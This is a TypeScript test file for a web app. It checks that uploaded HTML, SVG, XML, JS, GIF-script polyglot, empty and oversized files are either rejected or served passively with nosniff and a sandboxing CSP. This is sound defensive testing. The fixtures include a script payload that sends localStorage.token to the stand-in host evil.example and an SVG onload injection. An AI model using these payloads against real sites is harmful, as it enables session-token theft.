import { ERRORS, type ErrorId } from '@chaopin/contracts';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API, createTestApp, login, TEST_DB, type TestApp } from '../../../test/helpers.ts';
import { imUser } from '../../../test/kits/im-kit.ts';
import { DbBlobStore, DiskBlobStore } from '../../platform/blob-store.ts';

/**
 * Issue 17 §1: an uploaded file never runs as script on the app's origin. Every upload route ×
 * hostile payloads (markup, script, a GIF+script polyglot, zero bytes, 11 MB), each under its own
 * name and under one the route accepts, in both blob stores (the disk of the embedded mode and the
 * `blob` table of a cluster; in the cluster test run the db store is real PostgreSQL): refused
 * with its catalogue 4xx error, or stored under a passive extension and served with a passive
 * type, nosniff and a sandbox CSP.
 *
 * The db store on embedded PGlite (a combination for tests only: BLOB_STORE=db goes with
 * DATABASE_URL) takes about a minute to write 11 MB of bytea, so those cases run in the cluster
 * run only.
 *
 * Feedback/report pictures, review photos, refund evidence and avatars have no upload route of
 * their own: the app uploads them through common/multipleUploadLocal and sends the URL.
 */

const text = (s: string) => Buffer.from(s, 'utf8');
/** A complete 1×1 GIF, then a script: file-type and image decoders both see a GIF. */
const GIF_1X1 = Buffer.from(
  'R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==',
  'base64',
);
const STEAL = '<script>fetch("https://evil.example/?t="+localStorage.token)</script>';

type PayloadId = 'html' | 'htm' | 'svg' | 'xml' | 'js' | 'polyglot' | 'empty' | 'big';
const PAYLOADS: Record<PayloadId, { name: string; bytes: Buffer; served?: string }> = {
  html: { name: 'page.html', bytes: text(`<!doctype html><html><body>${STEAL}</body></html>`) },
  htm: { name: 'page.htm', bytes: text(`<html>${STEAL}</html>`) },
  svg: {
    name: 'pic.svg',
    bytes: text(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">${STEAL}<rect width="9" height="9"/></svg>`,
    ),
  },
  xml: {
    name: 'doc.xml',
    bytes: text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${STEAL}</html>`),
  },
  js: { name: 'app.js', bytes: text('fetch("https://evil.example/?t="+localStorage.token);') },
  polyglot: { name: 'cat.gif', bytes: Buffer.concat([GIF_1X1, text(STEAL)]), served: 'image/gif' },
  empty: { name: 'empty.html', bytes: Buffer.alloc(0) },
  big: {
    name: 'big.html',
    bytes: Buffer.concat([text(`<html>${STEAL}`), Buffer.alloc(11 * 1024 * 1024, 0x20)]),
  },
};

/** Extensions a stored key may end with here: passive types derived from the bytes, or bin. */
const PASSIVE_EXT = /\.(bin|gif|png|jpg)$/;
/** Served types allowed here: the sniffed raster image, or a download. */
const PASSIVE_TYPES = ['image/gif', 'image/png', 'image/jpeg', 'application/octet-stream'];

interface Ctx {
  app: FastifyInstance;
  token: string;
  im: { userID: string; userSig: string };
}
type Answer = { status: number; body: { code: number; error?: string; data: unknown } };

function multipart(field: string, name: string, bytes: Buffer, type = 'application/octet-stream') {
  const boundary = `----safety${Math.random().toString(16).slice(2)}`;
  return {
    payload: Buffer.concat([
      text(
        `--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`,
      ),
      bytes,
      text(`\r\n--${boundary}--\r\n`),
    ]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

async function post(
  app: FastifyInstance,
  url: string,
  body: ReturnType<typeof multipart>,
  headers: Record<string, string>,
): Promise<Answer> {
  const res = await app.inject({
    method: 'POST',
    url,
    payload: body.payload,
    headers: { ...headers, 'content-type': body.contentType },
  });
  return { status: res.statusCode, body: res.json() };
}

/** Every `/uploads/…` string in an answer's data. */
function uploadUrls(data: unknown): string[] {
  if (typeof data === 'string') return data.startsWith('/uploads/') ? [data] : [];
  if (Array.isArray(data)) return data.flatMap(uploadUrls);
  if (data && typeof data === 'object') return Object.values(data).flatMap(uploadUrls);
  return [];
}

interface Route {
  id: string;
  /** A name this route's own name check accepts. */
  disguise: string;
  send(c: Ctx, name: string, bytes: Buffer): Promise<Answer>;
  /** Downloads of what was stored: [url, headers] pairs. */
  downloads(data: unknown): Array<[string, Record<string, string>]>;
}

const common = (path: string, field: string, disguise: string): Route => ({
  id: `common/${path}`,
  disguise,
  send: (c, name, bytes) =>
    post(c.app, `${API}/common/${path}`, multipart(field, name, bytes, 'image/png'), {
      token: c.token,
    }),
  downloads: (data) => uploadUrls(data).map((u) => [u, {}]),
});
const im = (kind: string, disguise: string): Route => ({
  id: `im/upload?kind=${kind}`,
  disguise,
  send: (c, name, bytes) =>
    post(c.app, `${API}/im/upload?kind=${kind}`, multipart('file', name, bytes, 'text/html'), {
      'x-im-user': c.im.userID,
      'x-im-sig': c.im.userSig,
    }),
  downloads: (data) => uploadUrls(data).map((u) => [u, {}]),
});
const REST = '/acme/shop';
const chatfiles: Route = {
  id: 'chatfiles (chat-provider REST)',
  disguise: 'a.png',
  send: (c, name, bytes) =>
    post(c.app, `${REST}/chatfiles`, multipart('file', name, bytes, 'text/html'), {
      authorization: `Bearer ${c.im.userSig}`,
    }),
  downloads: (data) => {
    const e = (data as { entities: Array<{ uuid: string; 'share-secret': string }> }).entities[0];
    return e ? [[`${REST}/chatfiles/${e.uuid}`, { 'share-secret': e['share-secret'] }]] : [];
  },
};

const STORED = 'stored';
type Outcome = ErrorId | typeof STORED;
/** Per payload: [under its own name, under the route's disguise name]. */
type Expect = Record<PayloadId, readonly [Outcome, Outcome]>;
const both = (o: Outcome) => [o, o] as const;
const all = (o: Outcome, over: Partial<Expect> = {}): Expect => ({
  html: both(o),
  htm: both(o),
  svg: both(o),
  xml: both(o),
  js: both(o),
  polyglot: both(o),
  empty: both(o),
  big: both(o),
  ...over,
});

const TABLE: Array<[Route, Expect]> = [
  [
    common('multipleUploadLocal', 'files', 'a.png'),
    all('IMAGE_TYPE', {
      polyglot: both(STORED),
      empty: both('UPLOAD_EMPTY'),
      big: both('IMAGE_TOO_LARGE'),
    }),
  ],
  [common('localUploadVideo', 'file', 'a.mp4'), all('VIDEO_TYPE', { empty: both('UPLOAD_EMPTY') })],
  [
    im('image', 'a.png'),
    all('IM_UPLOAD_TYPE', { polyglot: both(STORED), empty: both('IM_UPLOAD_EMPTY') }),
  ],
  [im('audio', 'a.mp3'), all(STORED, { empty: both('IM_UPLOAD_EMPTY') })],
  [
    // SPEC §5 checks a video's extension; under an allowed one it is stored, but as what it is.
    im('video', 'a.mp4'),
    all('IM_UPLOAD_TYPE', {
      html: ['IM_UPLOAD_TYPE', STORED],
      htm: ['IM_UPLOAD_TYPE', STORED],
      svg: ['IM_UPLOAD_TYPE', STORED],
      xml: ['IM_UPLOAD_TYPE', STORED],
      js: ['IM_UPLOAD_TYPE', STORED],
      polyglot: ['IM_UPLOAD_TYPE', STORED],
      big: ['IM_UPLOAD_TYPE', STORED],
      empty: both('IM_UPLOAD_EMPTY'),
    }),
  ],
  [im('file', 'a.pdf'), all(STORED, { empty: both('IM_UPLOAD_EMPTY') })],
  [chatfiles, all(STORED, { empty: both('IM_REST_FILE_SIZE'), big: both('IM_REST_FILE_SIZE') })],
];

/** nosniff, and a CSP in which no script can ever run. */
function expectSandboxed(headers: Record<string, unknown>) {
  expect(headers['x-content-type-options']).toBe('nosniff');
  const csp = String(headers['content-security-policy']);
  expect(csp).toContain("default-src 'none'");
  expect(csp).toMatch(/(^|;)\s*sandbox(\s|;|$)/);
  expect(csp).not.toContain('allow-scripts');
  expect(csp).not.toMatch(/script-src/);
}

const CASES = TABLE.flatMap(([route, expected]) =>
  (Object.keys(PAYLOADS) as PayloadId[]).flatMap((p) =>
    (['own name', 'disguised'] as const).map((as, i) => ({
      route,
      payload: p,
      as,
      outcome: expected[p][i] as Outcome,
    })),
  ),
);

describe.each(['disk', 'db'] as const)('upload safety, %s blob store', (store) => {
  let t: TestApp;
  const c = {} as Ctx;
  beforeAll(async () => {
    t = await createTestApp({ BLOB_STORE: store });
    c.app = t.app;
    c.token = (await login(t.app)).token;
    c.im = await imUser(t.app);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('really runs on that store', () => {
    expect(t.app.deps.blobs).toBeInstanceOf(store === 'db' ? DbBlobStore : DiskBlobStore);
  });

  it.for(CASES)(
    '$route.id × $payload ($as) → $outcome',
    { timeout: 120_000 },
    async ({ route, payload, as, outcome }, ctx) => {
      const p = PAYLOADS[payload];
      if (store === 'db' && TEST_DB === 'pglite' && outcome === STORED && p.bytes.byteLength > 1e6)
        ctx.skip();
      const name = as === 'own name' ? p.name : route.disguise;
      const res = await route.send(c, name, p.bytes);
      if (outcome !== STORED) {
        expect([res.status, res.body.error]).toEqual([ERRORS[outcome].status, outcome]);
        expect(res.status).toBeGreaterThanOrEqual(400);
        expect(res.status).toBeLessThan(500);
        return;
      }
      expect([res.status, res.body.error]).toEqual([200, undefined]);
      const downloads = route.downloads(res.body.data);
      expect(downloads.length).toBeGreaterThan(0);
      let original = 0;
      for (const [url, headers] of downloads) {
        if (url.startsWith('/uploads/')) expect(url).toMatch(PASSIVE_EXT);
        const got = await t.app.inject({ method: 'GET', url, headers });
        expect(got.statusCode).toBe(200);
        expectSandboxed(got.headers);
        const type = String(got.headers['content-type']);
        expect(PASSIVE_TYPES).toContain(type);
        if (type === 'application/octet-stream') {
          expect(got.headers['content-disposition']).toBe('attachment');
        }
        if (got.rawPayload.equals(p.bytes)) {
          original++;
          expect(type).toBe(p.served ?? 'application/octet-stream');
        }
      }
      // The uploaded bytes themselves are among the stored files, intact.
      expect(original).toBeGreaterThan(0);
    },
  );
});
